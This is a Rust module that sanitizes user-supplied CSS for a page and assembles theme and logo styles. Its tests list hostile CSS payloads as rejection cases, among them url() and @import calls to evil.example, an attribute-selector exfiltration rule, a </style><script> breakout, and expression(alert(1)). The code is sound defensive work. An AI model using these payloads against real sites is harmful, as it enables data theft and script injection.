//! The style sheet of a page: what comes of its colour and logos, and the one somebody wrote, from which nothing leads outside.

use app::model::{
    accent::{Colour, used},
    input::FieldErrors,
    look::{Look, Picture},
};
use cssparser::{BasicParseErrorKind, ParseError, ParseErrorKind, Parser, Token};

/// How deep blocks and brackets may be nested.
const DEPTH: usize = 32;

/// Rules that begin with an @ and change nothing but how the page looks.
const AT_RULES: [&str; 9] =
    ["container", "counter-style", "keyframes", "-webkit-keyframes", "layer", "media", "starting-style", "supports", "property"];

/// Functions that fetch something, or run something.
const FETCHING: [&str; 11] = [
    "cross-fade",
    "-webkit-cross-fade",
    "element",
    "-moz-element",
    "expression",
    "image",
    "image-set",
    "-webkit-image-set",
    "paint",
    "src",
    "url-prefix",
];

/// Properties of browsers of old that run something.
const RUNNING: [&str; 2] = ["behavior", "-moz-binding"];

/// Pictures that come with the sheet itself.
const PICTURES: [&str; 6] =
    ["data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp", "data:image/avif", "data:image/svg+xml"];

/// Refuses a sheet that would fetch something, or that leads out of itself.
pub fn check(css: &str) -> Result<(), FieldErrors> {
    let refuse = |why: String| FieldErrors::one("css", why);
    if css.to_ascii_lowercase().contains("</") {
        return Err(refuse("must not hold a tag".to_owned()));
    }
    walk(&mut Parser::new(css), 0).map_err(|error| match error.kind {
        ParseErrorKind::Custom(why) => refuse(why),
        ParseErrorKind::Basic(_) => refuse("cannot be read".to_owned()),
    })
}

fn walk(parser: &mut Parser, depth: usize) -> Result<(), ParseError<String>> {
    loop {
        let line = parser.current_source_location().line + 1;
        let refusal = move |why: String| ParseError::custom(format!("{why} (line {line})"));
        let refuse = |why: String| Err(refusal(why));
        let token = match parser.next() {
            Ok(token) => token,
            Err(error) if error.kind == BasicParseErrorKind::EndOfInput => return Ok(()),
            Err(_) => return refuse("cannot be read".to_owned()),
        };
        let inside = match token {
            Token::AtKeyword(name) if !AT_RULES.contains(&name.to_ascii_lowercase().as_str()) => {
                return refuse(format!("must not have @{name}"));
            }
            Token::UnquotedUrl(address) => {
                if !comes_along(address) {
                    return refuse("must not fetch anything: url() is for data: pictures".to_owned());
                }
                false
            }
            Token::Function(name) if FETCHING.contains(&name.to_ascii_lowercase().as_str()) => {
                return refuse(format!("must not have {name}()"));
            }
            Token::Function(name) if name.eq_ignore_ascii_case("url") => {
                parser.parse_nested_block(|inside| match inside.next() {
                    Ok(Token::QuotedString(address)) if comes_along(address) => Ok(()),
                    _ => Err(refusal("must not fetch anything: url() is for data: pictures".to_owned())),
                })?;
                false
            }
            Token::Ident(name) if RUNNING.contains(&name.to_ascii_lowercase().as_str()) => {
                return refuse(format!("must not have {name}"));
            }
            Token::BadUrl(_) | Token::BadString(_) | Token::CDO | Token::CDC => return refuse("cannot be read".to_owned()),
            Token::CloseCurlyBracket | Token::CloseParenthesis | Token::CloseSquareBracket => {
                return refuse("ends what does not begin".to_owned());
            }
            Token::Function(_) | Token::CurlyBracketBlock | Token::ParenthesisBlock | Token::SquareBracketBlock => true,
            _ => false,
        };
        if inside {
            if depth == DEPTH {
                return refuse(format!("is nested deeper than {DEPTH}"));
            }
            parser.parse_nested_block(|inside| walk(inside, depth + 1))?;
        }
    }
}

fn comes_along(address: &str) -> bool {
    let address = address.trim().to_ascii_lowercase();
    PICTURES.iter().any(|kind| address.strip_prefix(kind).is_some_and(|rest| rest.starts_with([';', ','])))
}

/// The sheet of a page that looks like this; none if nothing comes of it.
pub fn of(look: &Look) -> Option<String> {
    let mut sheet = String::new();
    if let Some(accent) = look.accent.as_deref().and_then(Colour::parse) {
        let used = used(accent);
        let set = |colour: Colour| format!("--accent: {}", colour.hex());
        sheet.push_str(&by_theme(":root", &set(used.light), &set(used.dark)));
    }
    if let Some(logo) = &look.logo {
        sheet.push_str(BRAND);
        sheet.push_str(&by_theme(".brand", &shown(logo), &shown(look.logo_dark.as_ref().unwrap_or(logo))));
    }
    if !look.css.is_empty() {
        // Whatever it says is said of what is on the page.
        sheet.push_str(&format!("@scope (body) {{\n{}\n}}\n", look.css));
    }
    (!sheet.is_empty()).then_some(sheet)
}

/// The name stays for those who hear the page.
const BRAND: &str = ".brand { display: block; height: 40px; background: no-repeat left center / contain }\n\
                     .brand > * { position: absolute; width: 1px; height: 1px; overflow: hidden; clip-path: inset(50%); white-space: nowrap }\n";

fn shown(picture: &Picture) -> String {
    let width = (40 * picture.width).div_ceil(picture.height.max(1)).min(240);
    format!("background-image: url(\"/files/{}\"); width: {width}px", picture.file)
}

/// Declarations in light, and others in dark, as the tokens of the product choose between them.
fn by_theme(selector: &str, light: &str, dark: &str) -> String {
    let (chosen, system) = match selector {
        ":root" => (":root[data-theme=\"dark\"]".to_owned(), ":root:not([data-theme=\"light\"])".to_owned()),
        other => (format!(":root[data-theme=\"dark\"] {other}"), format!(":root:not([data-theme=\"light\"]) {other}")),
    };
    format!(
        "{selector} {{ {light} }}\n@media (prefers-color-scheme: dark) {{ {system} {{ {dark} }} }}\n{chosen} {{ {dark} }}\n\
         @media (forced-colors: active) {{ :root {{ --accent: LinkText }} }}\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a023_nothing_leads_out_of_a_sheet() {
        for bad in [
            "body{background:url(https://evil.example/?x)}",
            "body{background:url( 'https://evil.example/?x' )}",
            "body{background:URL(\"//evil.example/a\")}",
            "body{background:u\\72l(//evil.example/a)}",
            "@import url(//evil.example/a.css);",
            "@import '//evil.example/a.css';",
            "@\\69mport '//evil.example/a.css';",
            "@media screen { @import '//evil.example/a.css'; }",
            "@font-face{font-family:x;src:url(//evil.example/a)}",
            "@namespace url(//evil.example)",
            "@charset \"utf-7\";",
            "input[value^=\"a\"]{background:url(//evil.example/a)}",
            "</style><script>window.__xss=1</script>",
            "a{width:expression(alert(1))}",
            "a{behavior:url(#x)}",
            "a{-moz-binding:none}",
            "a{background:image-set('https://evil.example/a' 1x)}",
            "a{background:src('//evil.example')}",
            "a{background:url(data:text/html,x)}",
            "a{background:url(data:image/pngx,x)}",
            "a{background:url(javascript:alert(1))}",
            "a{color:red}} body{color:red",
            "a{color:red]",
            "<!-- a{color:red} -->",
            &"(".repeat(60_000),
            &"a{".repeat(20_000),
        ] {
            assert!(check(bad).is_err(), "{}", &bad[..bad.len().min(80)]);
        }
    }

    #[test]
    fn a_sheet_can_look_as_it_likes() {
        for good in [
            "",
            ".brand { letter-spacing: 0.02em }",
            "@media (width < 600px) { h1 { font-size: clamp(1rem, 2vw, 3rem) } }",
            "a { background: url(data:image/png;base64,iVBORw0KGgo=) }",
            "a { background: url(\"data:image/svg+xml,%3Csvg/%3E\") }",
            "@supports (display: grid) { .row { display: grid } } @keyframes x { from { opacity: 0 } }",
            "\\3c/style\\3e { color: red } /* </ is no tag here? */ a { color: red }",
        ] {
            let is_tag = good.contains("</");
            assert_eq!(check(good).is_err(), is_tag, "{good}");
        }
    }

    #[test]
    fn what_was_written_is_said_of_the_page_alone() {
        let look = Look { accent: Some("#ffcc00".into()), css: "h1 { color: red }".into(), ..Look::default() };
        let sheet = of(&look).unwrap();
        assert!(sheet.starts_with(":root { --accent: #") && sheet.contains("@scope (body) {\nh1 { color: red }\n}"), "{sheet}");
        assert!(!sheet.contains("#ffcc00; "), "what cannot be read in light is not used there: {sheet}");
        assert_eq!(of(&Look::default()), None);
    }
}
